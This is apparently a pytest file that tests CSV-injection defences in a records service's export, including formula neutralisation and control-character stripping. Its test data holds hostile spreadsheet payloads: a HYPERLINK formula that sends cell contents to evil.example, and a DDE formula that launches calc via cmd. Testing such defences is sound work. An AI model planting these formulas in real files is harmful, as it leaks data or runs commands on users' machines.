"""CSV cells a spreadsheet can open safely (OWASP, CSV injection): a cell that begins
with =, +, -, @, a tab or a carriage return begins with ' instead; no control character
but tab and LF reaches a CSV file, and those stay inside their quoted cell (RFC 4180).
Besides the quote, each cell says what the JSON says."""

from __future__ import annotations

import csv
import io

import pytest

from service.http.negotiation import spreadsheet_cell
from service.storage.store import Answer, Draft
from tests.recording import EVENTS, REFERRAL, record

#: What a registrar may write (one line each) that a spreadsheet would run as a formula.
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"klicka")', "@SUM(1+1)", "+46 8 535 300 00", "-2+3", "=1+2"]
HARMLESS = ["KS § 12", "ver 2025-0042", "’=not a formula’", " =after a space"]


@pytest.fixture
def store_client(store_app):
    return store_app.test_client()


def csv_rows(response) -> list[dict[str, str]]:
    """The CSV as a real reader reads it."""
    assert response.status_code == 200 and response.mimetype == "text/csv"
    return list(csv.DictReader(io.StringIO(response.get_data(as_text=True), newline="")))


def test_formulas_are_neutralised_and_line_breaks_and_tabs_kept_in_quoted_cells(store_client, writer):
    stored = [record(store_client, writer, {**REFERRAL, "reference": text}) for text in FORMULAS + HARMLESS]
    reason = '\tInledande tabb.\r\nRad två,\t"citat";\n=1+1'
    correction = {"type": "correction", "corrects": stored[0]["event_id"], "reason": reason}
    stored.append(record(store_client, writer, correction))
    as_csv = csv_rows(store_client.get(EVENTS, query_string={"format": "csv", "limit": 100}))
    as_json = store_client.get(EVENTS, query_string={"limit": 100}).json["items"]
    cells = {row["event_id"]: row for row in as_csv}
    for event in stored:
        row = cells[str(event["event_id"])]
        for member in ("reference", "reason"):
            if member in event:
                expected = event[member] or ""
                assert row[member] == ("'" + expected if expected[:1] in "=+-@\t\r" and expected else expected)
    assert [cells[str(e["event_id"])]["reference"] for e in stored[: len(FORMULAS)]] == ["'" + f for f in FORMULAS]
    assert [cells[str(e["event_id"])]["reference"] for e in stored[len(FORMULAS) : -1]] == HARMLESS
    assert cells[str(stored[-1]["event_id"])]["reason"] == '\'\tInledande tabb.\nRad två,\t"citat";\n=1+1'
    # Besides the quote, the CSV says what the JSON says.
    for event in as_json:
        row = cells[str(event["event_id"])]
        for member in ("reference", "reason", "body", "recorded_by"):
            if event.get(member):
                assert row[member].removeprefix("'") == event[member]


def test_no_control_character_reaches_a_csv_even_from_an_old_store(store_app, store_client):
    """A store written before text was checked may hold control characters; the CSV has none of them."""
    payload = {"body": "Kommun\x00styrelsen\x1b[31m", "reference": "\x07=cmd|' /C calc'!A0\x7f\x85"}
    draft = Draft(type="adoption", effective_on=None, payload=payload)
    store_app.extensions["medfin"].append(
        "ks-2024-1371-481", draft, recorded_by="gammal", check=lambda *_: None, answer=lambda _: Answer(201, "{}", None)
    )
    text = store_client.get(EVENTS, query_string={"format": "csv"}).get_data(as_text=True)
    assert not [c for c in text if (ord(c) < 32 and c not in "\t\n\r") or 0x7F <= ord(c) <= 0x9F]
    row = csv_rows(store_client.get(EVENTS, query_string={"format": "csv"}))[-1]
    assert (row["body"], row["reference"]) == ("Kommunstyrelsen[31m", "'=cmd|' /C calc'!A0")


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\tx", "'\tx"),
        ("\r=1", "'=1"),  # the CR goes, and what follows it is a formula
        ("a\r\nb", "a\nb"),
        ("2025-03-01", "2025-03-01"),
        ("ks-2024-1371-481", "ks-2024-1371-481"),
        ("1000000.00", "1000000.00"),
        (None, ""),
        (7, "7"),
    ],
)
def test_a_cell_is_what_a_spreadsheet_shows(value, cell):
    assert spreadsheet_cell(value) == cell
